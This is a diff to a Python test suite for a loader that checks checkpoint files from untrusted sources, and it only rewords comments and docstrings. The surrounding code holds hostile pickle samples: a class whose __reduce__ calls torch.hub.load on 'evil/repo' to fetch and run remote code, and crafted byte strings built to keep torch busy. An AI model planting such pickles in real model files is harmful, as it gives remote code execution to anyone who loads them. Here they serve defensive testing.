@@ -1,4 +1,4 @@
-"""Checkpoints from an untrusted source."""
+"""Checkpoints from untrusted files."""
 
 from __future__ import annotations
 
@@ -21,7 +21,7 @@ class Boom:
 
 
 class Hub:
-    """torch's own function that fetches code and runs it."""
+    """Pickles to a call of the torch function that downloads code and runs it."""
 
     def __reduce__(self) -> Any:
         return (torch.hub.load, ("evil/repo", "model"))
@@ -71,8 +71,8 @@ def test_refusal__gives_no_advice_to_load_it_all_the_same(tmp_path: Path) -> Non
 @pytest.mark.parametrize(
     "content",
     [
-        b"cposix\n" + b"x" * 400_000 + b"\n.",  # a name that is looked through for words
-        b"X" + (400_000).to_bytes(4, "little") + b"x" * 400_000 + b")R.",  # a text that is called
+        b"cposix\n" + b"x" * 400_000 + b"\n.",  # a name, in which torch searches for words
+        b"X" + (400_000).to_bytes(4, "little") + b"x" * 400_000 + b")R.",  # a string that is called
     ],
 )
 def test_long_names__do_not_keep_torch_busy(content: bytes, tmp_path: Path) -> None:
